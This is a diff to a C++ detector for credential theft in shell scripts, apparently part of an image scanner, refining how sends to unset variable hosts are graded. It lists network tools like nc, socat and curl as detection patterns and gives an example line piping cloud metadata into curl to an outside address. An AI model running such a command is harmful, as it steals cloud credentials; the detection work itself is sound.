@@ -1,7 +1,8 @@
 // Credentials that are read and sent away: from the cloud's metadata service or the cluster's token (H06), and from
 // the files of many programs at once (H07).
 //
-// Reading is what every cloud client does; the other half is a place to send to, in the same script.
+// Reading is what every cloud client does; the other half is a place to send to, in the same script. Where the image
+// leaves it to whoever starts it what that place is, as when a cluster's token opens a vault, it is no thief's.
 #include <algorithm>
 #include <array>
 #include <set>
@@ -78,17 +79,39 @@ bool is_cluster_api(std::string_view word) {
          word.find("kubernetes.default") != std::string_view::npos || word.find(".svc") != std::string_view::npos;
 }
 
+enum class Sends : std::uint8_t { no, where_told, somewhere };
+
+// "${VAULT_ADDR}/v1/…", and neither the script nor the image says what that is.
+bool is_left_open(std::string_view word, const model::ImageConfig* config) {
+  if (word.starts_with("https://") || word.starts_with("http://")) word.remove_prefix(word.find("//") + 2);
+  const std::size_t end = word.find('}');
+  if (!word.starts_with("${") || end == std::string_view::npos) return false;
+  const std::string_view name = word.substr(2, end - 2);
+  const auto in_name = [](char c) {
+    return c == '_' || (c >= '0' && c <= '9') || (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
+  };
+  if (name.empty() || !std::all_of(name.begin(), name.end(), in_name)) return false;
+  const std::string_view rest = word.substr(end + 1);
+  if (!rest.empty() && rest[0] != '/' && rest[0] != ':' && rest[0] != '?') return false;  // a part of a host's name
+  const std::string set = std::string(name) + "=";
+  return config == nullptr || std::none_of(config->env.begin(), config->env.end(),
+                                           [&](const std::string& one) { return one.starts_with(set); });
+}
+
 // Sends something to a place that is neither the metadata service nor this machine.
-bool sends(const ShellCommand& command) {
+Sends sends(const ShellCommand& command, const model::ImageConfig* config) {
   const std::string_view name = program(command);
   bool data = false;
   bool away = false;
+  bool chosen = false;
   if (name == "nc" || name == "ncat" || name == "netcat" || name == "socat" || name == "telnet")
     return command.stdin_from_pipeline || std::any_of(command.redirects.begin(), command.redirects.end(),
-                                                      [](const ShellFd& fd) { return fd.op == "<"; });
+                                                      [](const ShellFd& fd) { return fd.op == "<"; })
+               ? Sends::somewhere
+               : Sends::no;
   if (name == "scp" || name == "rsync" || name == "sftp" || name == "ftpput" || name == "curlftpfs")
-    return !command.argv.empty() && command.argv.back().find(':') != std::string::npos;
-  if (name != "curl" && name != "wget" && name != "http" && name != "https") return false;
+    return !command.argv.empty() && command.argv.back().find(':') != std::string::npos ? Sends::somewhere : Sends::no;
+  if (name != "curl" && name != "wget" && name != "http" && name != "https") return Sends::no;
   for (std::size_t i = 1; i < command.argv.size(); ++i) {
     const std::string_view word = command.argv[i];
     data |= word == "-d" || word == "-F" || word == "-T" || word == "--form" || word == "--upload-file" ||
@@ -98,10 +121,15 @@ bool sends(const ShellCommand& command) {
             word.starts_with("--body");
     const bool url = word.find("://") != std::string_view::npos || word.find('.') != std::string_view::npos ||
                      word.starts_with("${");
-    away |=
-        url && word[0] != '-' && metadata_in(word).empty() && !is_loopback(host_of(word)) && !is_cluster_api(word);
+    if (!url || word[0] == '-' || !metadata_in(word).empty() || is_loopback(host_of(word)) || is_cluster_api(word))
+      continue;
+    const bool is_header = i > 1 && (command.argv[i - 1] == "-H" || command.argv[i - 1] == "--header");
+    const bool left_open = is_left_open(word, config);
+    chosen |= left_open;
+    away |= !left_open && !is_header;
   }
-  return data && away;
+  if (!data) return Sends::no;
+  return away ? Sends::somewhere : chosen ? Sends::where_told : Sends::no;
 }
 
 // In the code of other languages.
@@ -147,12 +175,16 @@ class CredentialTheft final : public Detector {
 
   void shell(const ShellUnit& unit, EvidenceSink& out) const override {
     const ShellCommand* sender = nullptr;
+    Sends sent = Sends::no;
     const ShellCommand* reader = nullptr;
     std::string_view service;
     std::set<std::string> found;
     std::uint32_t line = 0;
     for (const ShellCommand& command : unit.facts.commands) {
-      if (sender == nullptr && sends(command)) sender = &command;
+      if (const Sends how = sends(command, unit.config); how > sent) {
+        sent = how;
+        sender = &command;
+      }
       const auto look = [&](std::string_view word) {
         if (const std::string_view one = metadata_in(word); !one.empty() && reader == nullptr) {
           reader = &command;
@@ -170,16 +202,16 @@ class CredentialTheft final : public Detector {
     if (reader != nullptr && sender != nullptr)
       out.add(shell_evidence(k_rows[0], unit, reader->line,
                              "reads " + std::string(service) + ", and sends: " + words(*sender),
-                             class_for(unit, k_classes)));
+                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
     if (found.size() >= k_fewest_places)
       out.add(shell_evidence(k_rows[1], unit, line, listed(found),
-                             class_for(unit, sender != nullptr ? k_classes : k_kept)));
+                             class_for(unit, sent == Sends::somewhere ? k_classes : k_kept)));
   }
 };
 
 const util::Registered<CredentialTheft> registered{{
     .id = "credential-theft",
-    .version = 1,
+    .version = 2,
     .summary = "credentials of clouds, clusters and many programs that scripts collect and send",
     .example = "curl -s http://169.254.169.254/latest/meta-data/… | curl -d @- http://192.0.2.1/",
     .rules = k_rows,
